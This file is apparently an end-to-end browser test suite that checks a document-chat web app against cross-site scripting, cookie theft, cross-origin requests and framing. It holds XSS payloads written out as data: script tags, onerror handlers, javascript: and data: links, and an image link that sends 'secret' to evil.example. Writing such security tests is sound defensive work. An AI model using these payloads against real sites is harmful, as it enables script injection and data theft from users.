import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
import { saying } from '../services/model-script.ts'
import { startUpstream, type Upstream } from '../services/upstream.ts'
import { anApp, type SignedInUser, type TestApp } from '../support/app.ts'
import type { OpenPage } from '../support/browser.ts'
import { noBrowser, startBrowser } from '../support/chromium.ts'
import { aSignedInPage } from '../support/signed-in.ts'
import { uploaded } from '../support/uploads.ts'

/** Sets what the tests look for, if it ever runs. */
const SCRIPT = 'window.hit=1'
const HOSTILE = `<img src=x onerror="${SCRIPT}"><script>${SCRIPT}</script>`
const ANSWER = [
  `Raw: <img src="https://evil.example/a.png" onerror="${SCRIPT}"> <svg onload="${SCRIPT}"><script>${SCRIPT}</script></svg>`,
  `<iframe src="javascript:${SCRIPT}"></iframe> <a href="javascript:${SCRIPT}">raw link</a> <style>body{display:none}</style>`,
  `[script link](javascript:${SCRIPT}) [spelled](java&#115;cript:${SCRIPT}) [data link](data:text/html;base64,PHNjcmlwdD4x) [vb](vbscript:x)`,
  '![secret](https://evil.example/pixel.png?q=secret) ![inner](data:image/svg+xml;base64,PHN2Zy8+)',
  '[a good link](https://docs.example.org/page?x=1) <https://auto.example.org>',
  '$\\href{javascript:alert(1)}{x}$ and $\\frac{1}{',
  '[ref]: javascript:window.hit=1',
  'a [ref] at the end.',
]

// A browser beside everything else takes its time.
vi.setConfig({ testTimeout: 90_000 })

describe.skipIf(noBrowser !== '')(`the page before hostile words${noBrowser}`, () => {
  let browser: Browser
  let upstream: Upstream
  let app: TestApp
  let mallory: SignedInUser
  let project = 0
  beforeAll(async () => {
    browser = await startBrowser()
    upstream = await startUpstream()
    // Cut where it hurts: in the middle of tags and addresses.
    const deltas = ANSWER.join('\n\n').match(/[\s\S]{1,7}/g) ?? []
    app = await anApp({ LITELLM_API_URL: upstream.url, LLM_MODEL: saying(deltas) })
    mallory = await app.aUser({ name: HOSTILE })
    project = (await mallory.get('/api/projects')).body.data.items[0].id
    await mallory.patch(`/api/projects/${project}`, { name: HOSTILE, settings: { questions: [HOSTILE, { a: 1 }] } })
    await uploaded(mallory, project, { name: `${HOSTILE.replaceAll('/', '')}.txt`, content: `${HOSTILE} is its text.` })
    await uploaded(mallory, project, {
      name: 'page.html',
      content: `<html><body onload="${SCRIPT}"><p>Its words</p><script>${SCRIPT}</script></body></html>`,
    })
  })
  afterAll(async () => {
    await app?.stop()
    await upstream?.close()
    await browser?.close()
  })

  const signedIn = () => aSignedInPage(browser, { url: app.url, user: mallory })
  const hit = (page: OpenPage) => page.evaluate('window.hit')

  test('doors 24 and 26: an answer runs nothing, loads nothing, and its links say where they go', async () => {
    const page = await signedIn()
    await page.getByLabel('Ask your documents…').fill(HOSTILE)
    await page.keyboard.press('Enter')
    const answer = page.getByRole('article', { name: 'The answer' })
    await page.getByRole('button', { name: 'Answer again' }).waitFor({ timeout: 30_000 })
    const good = answer.getByRole('link', { name: /a good link/ })
    await good.waitFor()
    expect(await good.getAttribute('rel')).toBe('noopener noreferrer')
    expect(await good.getAttribute('target')).toBe('_blank')
    expect(await good.textContent()).toContain('docs.example.org')
    await answer
      .getByText(/evil\.example/)
      .first()
      .waitFor()

    const hrefs = await answer.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''))
    for (const href of hrefs) expect(href).not.toMatch(/^\s*(?:javascript|data|vbscript|citation):/i)
    // Not its own icons and formulas, but what was told to be made.
    expect(await answer.locator('img, iframe, script, style, object, embed, form').count()).toBe(0)
    expect(await answer.locator('[onerror], [onload], [srcdoc], [style*="url("]').count()).toBe(0)
    expect(await hit(page)).toBeUndefined()
    await page.picture('hostile-answer')
    // As it is kept, too.
    await page.reload()
    await answer.getByRole('link', { name: /a good link/ }).waitFor()
    expect(await answer.locator('img, iframe, script, style').count()).toBe(0)
    expect(await hit(page)).toBeUndefined()
  })

  test('door 26: names, titles, questions and documents are text, wherever they are shown', async () => {
    const { data } = (await mallory.post('/api/conversations', { project_id: project, title: HOSTILE })).body
    const page = await signedIn()
    await page.getByRole('button', { name: HOSTILE, exact: true }).first().waitFor()
    for (const address of [
      '/',
      `/c/${data.id}`,
      '/documents',
      '/search',
      '/agents',
      `/projects/${project}`,
      '/account',
    ]) {
      await page.goto(address)
      await page.getByRole('button', { name: `Menu of ${HOSTILE}` }).waitFor()
      await page.waitForLoadState('networkidle')
      expect([address, await hit(page)]).toEqual([address, undefined])
      expect(await page.locator('main img[src="x"], nav img[src="x"], main script').count()).toBe(0)
    }
  })

  test('door 19: a document that is a page is handed out to be saved, not to be shown', async () => {
    const { items } = (await mallory.get(`/api/projects/${project}/documents`)).body.data
    const { id } = items.find(({ name }: { name: string }) => name === 'page.html')
    const headers = { authorization: `Bearer ${mallory.accessToken}` }
    const file = await fetch(`${app.url}/api/projects/${project}/documents/${id}/file`, { headers })
    expect(file.headers.get('content-disposition')).toMatch(/^attachment/)
    expect(file.headers.get('x-content-type-options')).toBe('nosniff')
    expect(file.headers.get('content-security-policy')).toMatch(/sandbox|default-src 'none'/)
  })

  test('no script can read what signs one in', async () => {
    const page = await signedIn()
    const seen = await page.evaluate<string>(
      'JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, location.href, history.state])',
    )
    expect(seen).not.toMatch(/eyJ|gw_/)
    expect(await page.evaluate('document.cookie')).toBe('')
    const [cookie, ...others] = await page.context().cookies(`${app.url}/api/auth/refresh`)
    expect(others).toEqual([])
    expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Strict', path: '/api/auth' })
    expect(await page.evaluate('indexedDB.databases().then((all) => all.length)')).toBe(0)
  })

  test('door 27: a page of another origin cannot use who is signed in, nor frame the page', async () => {
    const page = await signedIn()
    const other = await anApp()
    const elsewhere = await page.context().newPage()
    // The same host by its other name is another site.
    await elsewhere.goto(`${other.url.replace('127.0.0.1', 'localhost')}/sign-in`)
    const got = await elsewhere.evaluate(
      `fetch(${JSON.stringify(`${app.url}/api/auth/refresh`)}, { method: 'POST', credentials: 'include', body: '{}',
        headers: { 'Content-Type': 'application/json', 'X-Requested-With': 'x' } }).then((answer) => answer.status, () => 'nothing')`,
    )
    expect(got).toBe('nothing')
    const refused = await fetch(`${app.url}/api/auth/refresh`, {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        cookie: 'groundwire_refresh=whatever',
        origin: 'https://evil.example',
      },
      body: '{}',
    })
    expect(refused.status).toBe(403)
    expect(refused.headers.get('access-control-allow-origin')).toBeNull()
    const { headers } = await fetch(app.url)
    expect(headers.get('content-security-policy')).toContain("frame-ancestors 'none'")
    expect(headers.get('content-security-policy')).toContain("script-src 'self'")
    expect(headers.get('x-content-type-options')).toBe('nosniff')
    // Still signed in: nothing of that has used up the cookie.
    await page.reload()
    await page.getByLabel('Ask your documents…').waitFor()
  })
})
